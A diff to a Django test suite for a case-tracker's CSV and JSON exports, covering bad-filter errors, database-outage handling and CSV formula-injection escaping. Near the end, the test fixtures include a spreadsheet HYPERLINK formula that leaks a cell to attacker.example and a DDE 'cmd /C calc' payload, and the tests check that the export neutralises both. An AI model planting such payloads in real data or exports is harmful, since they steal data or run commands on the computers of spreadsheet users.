@@ -3,18 +3,30 @@
 import csv
 import io
 import json
+import os
+import subprocess
+import sys
 from datetime import date
+from pathlib import Path
 
 import pytest
+from django.core.management import call_command
+from django.db import DEFAULT_DB_ALIAS, DatabaseError, connection, connections
 from django.http import StreamingHttpResponse
 from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
 
 from cases.models import Hearing
+from casetracker.listing import CSV_INCOMPLETE, EXPORT_CHUNK, FORMULA_STARTS, JSON_INCOMPLETE
 from casetracker.publication import Status
 from tests import factories as f
+from tests.hostile.strategies import hostile_settings
 from tests.public.conftest import build_world
 
 pytestmark = pytest.mark.django_db
+
+ROOT = Path(__file__).resolve().parents[2]
 
 EXPORTS = [
     ("people:person_list", "people:person_export", {"article": "criminal-1997-164"}, "name"),
@@ -64,9 +76,23 @@ def test_an_unknown_export_format_is_not_found(reader, world):
     assert reader.get(reverse("people:person_export", args=["xml"])).status_code == 404
 
 
-def test_a_bad_filter_exports_nothing(reader, world):
-    response = reader.get(reverse("people:person_export", args=["json"]), {"year": "abc"})
-    assert json.loads(b"".join(response.streaming_content)) == []
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+@pytest.mark.parametrize(("list_name", "export_name", "_params", "_column"), EXPORTS)
+def test_a_bad_filter_is_refused_with_the_lists_error(
+    reader, world, list_name, export_name, _params, _column, fmt
+):
+    """An empty file with 200 would read as "no such rows"; the list answers 400 and says why."""
+    bad = {"sort": "no-such-order"}
+    listed = reader.get(reverse(list_name), bad)
+    assert listed.status_code == 400
+    form = listed.context["filter"].form
+    [message] = form.errors["sort"]
+
+    response = reader.get(reverse(export_name, args=[fmt]), bad)
+
+    assert response.status_code == 400
+    assert response["Content-Type"] == "text/plain; charset=utf-8"
+    assert b"".join(response.streaming_content).decode() == f"{form['sort'].label}: {message}\n"
 
 
 @pytest.mark.parametrize("rows", [3, 30])
@@ -126,3 +152,103 @@ def test_home_charts_count_public_records(reader, world):
     body = response.content.decode()
     assert 'role="img"' in body
     assert "<title" in body
+
+
+def test_an_export_during_a_database_outage_answers_503_not_a_cut_off_file():
+    """A real PostgreSQL address where nothing listens, as in test_health: the export must fail
+    before it answers 200, or the reader keeps an empty file that looks complete."""
+    script = (
+        "import django; django.setup(); from django.test import Client; client = Client();"
+        "answers = [client.get(f'/people/export.{fmt}') for fmt in ('csv', 'json')];"
+        "print(*[(answer.status_code, answer.get('Retry-After')) for answer in answers])"
+    )
+    env = os.environ | {
+        "DATABASE_URL": "postgres://postgres@127.0.0.1:9/unreachable",
+        "ALLOWED_HOSTS": "testserver",
+    }
+    result = subprocess.run(
+        [sys.executable, "-c", script],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.strip() == "(503, '60') (503, '60')"
+
+
+def cut_the_database() -> None:
+    """What an outage does to the connection an export streams from, done for real: SQLite
+    interrupts the running statement, PostgreSQL ends the backend from another connection."""
+    if connection.vendor == "sqlite":
+        connection.connection.interrupt()
+        return
+    other = connections.create_connection(DEFAULT_DB_ALIAS)
+    try:
+        with other.cursor() as cursor:
+            cursor.execute(
+                "SELECT pg_terminate_backend(%s)", [connection.connection.info.backend_pid]
+            )
+    finally:
+        other.close()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+@pytest.mark.django_db(
+    transaction=True
+)  # PostgreSQL loses the test's connection, transaction and all
+def test_an_export_the_database_fails_during_does_not_look_complete(reader, fmt):
+    call_command("generate_data", people=EXPORT_CHUNK + 10, seed=1, verbosity=0)
+    response = reader.get(reverse("people:person_export", args=[fmt]))
+    assert response.status_code == 200
+    chunks = iter(response.streaming_content)
+    received = [next(chunks), next(chunks)]  # the header or "[", then the first row
+    cut_the_database()
+    with pytest.raises(DatabaseError):  # raised again: the server breaks the transfer off
+        received.extend(chunks)
+    connection.close()
+
+    body = b"".join(received).decode()
+    rows = body.count("/people/")
+    assert EXPORT_CHUNK <= rows < EXPORT_CHUNK + 10, "the first chunk, not the rest"
+    assert body.endswith(CSV_INCOMPLETE if fmt == "csv" else JSON_INCOMPLETE)
+    if fmt == "json":
+        with pytest.raises(json.JSONDecodeError):
+            json.loads(body)
+
+
+def exported_csv(reader) -> list[list[str]]:
+    response = reader.get(reverse("people:person_export", args=["csv"]))
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open the case file")'
+
+
+def test_a_name_that_is_a_formula_reaches_the_csv_as_text(reader, db):
+    """A spreadsheet would run the cell; a leading ' makes it text (OWASP, "CSV Injection")."""
+    f.PersonFactory(name=FORMULA, native_name="@SUM(1+1)*cmd|' /C calc'!A0")
+    [header, row] = exported_csv(reader)
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["name"], cells["native_name"]) == (f"'{FORMULA}", "'@SUM(1+1)*cmd|' /C calc'!A0")
+
+    response = reader.get(reverse("people:person_export", args=["json"]))
+    [record] = json.loads(b"".join(response.streaming_content))
+    assert record["name"] == FORMULA, "JSON is read by programs, and keeps the name as it is"
+
+
+# Text a person's name may hold, often starting with what a spreadsheet takes for a formula.
+names = st.tuples(
+    st.sampled_from(["", *FORMULA_STARTS]),
+    st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=30),
+).map("".join)
+
+
+@hostile_settings
+@given(name=names, native_name=names)
+def test_no_csv_cell_starts_as_a_formula(reader, db, name, native_name):
+    f.PersonFactory(name=name, native_name=native_name)
+    for row in exported_csv(reader)[1:]:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), row
